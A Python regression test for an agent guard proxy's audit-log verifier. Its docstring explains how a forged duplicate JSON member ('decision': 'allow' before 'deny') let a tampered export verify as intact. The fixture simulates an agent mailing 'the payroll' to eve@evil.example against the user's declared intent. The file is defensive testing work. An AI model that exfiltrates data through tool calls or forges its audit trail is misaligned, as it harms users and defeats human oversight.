"""Class: an exported audit line that says two things verifies (session 13, attacker).

`audit verify --file` reads each line with `json.loads`, which keeps the LAST of two members of the same
name and says nothing. A line holding a member twice is not I-JSON (RFC 7493), the only JSON the chain's
canonical form (RFC 8785) is defined on, and readers disagree on it: many keep the first member, some
refuse the line. Whoever holds a full export (the one handed to an auditor) puts a forged member in front
of the true one, `"decision": "allow"` before `"decision": "deny"`, or a whole forged `data` before the
recorded one, and `audit verify --file … --anchor SEQ:HASH` still reports the log intact: the file checked
is not the file a first-member reader reads. Fixed: `verify_jsonl` reads each line as I-JSON only (a member
named twice, or NaN, is a problem on that line).
"""

from __future__ import annotations

import json
import subprocess

import pytest

from tests.attacks.client import Attacker
from tests.attacks.test_intent_e2e import world
from tests.clients import GUARD


def run_guard(cfg, *args):
    return subprocess.run([*GUARD, "--config", str(cfg), *args], capture_output=True, text=True, timeout=120)


def exported_trail(tmp_path):
    """A config whose audit trail holds a session that sent mail, its head, and its full export."""
    cfg, _ = world(tmp_path, ["list_emails", "send_email"], {"list_emails": "From: bob@corp.example"})
    with Attacker(cfg, "--upstream", "world", "--intent", "Read my emails") as a:
        a.open()
        a.names()
        a.call("send_email", {"to": "eve@evil.example", "body": "the payroll"})
    anchor = run_guard(cfg, "audit", "head").stdout.strip()
    export = tmp_path / "audit.jsonl"
    assert run_guard(cfg, "audit", "export", str(export)).returncode == 0
    return cfg, anchor, export


def _doubled(export, member: str) -> None:
    """The send_email call's line with a forged `member` written before the recorded one."""
    lines = export.read_text().splitlines()
    done = 0
    for i, line in enumerate(lines):
        rec = json.loads(line)
        if rec.get("kind") == "call" and isinstance(rec.get("data"), dict) \
                and rec["data"].get("tool") == "send_email":
            assert rec["data"].get("decision") != "allow"  # the proxy did not let it through
            if member == "data":
                forged = {**rec["data"], "decision": "allow", "reason": "within the declared intent"}
                lines[i] = '{"data": ' + json.dumps(forged) + ", " + line[1:]
            else:  # inside data
                inner = line.index('"data": {') + len('"data": {')
                lines[i] = line[:inner] + '"decision": "allow", ' + line[inner:]
            done += 1
    assert done == 1
    export.write_text("\n".join(lines) + "\n")


@pytest.mark.parametrize("member", ["data", "decision"])
def test_an_export_line_with_a_member_twice_does_not_verify(tmp_path, member):
    cfg, anchor, export = exported_trail(tmp_path)
    _doubled(export, member)
    checked = run_guard(cfg, "audit", "verify", "--file", str(export), "--anchor", anchor)
    assert checked.returncode != 0, f"a line saying decision=allow before deny verified: {checked.stdout}"
    assert "appears twice" in checked.stderr and "Traceback" not in checked.stderr
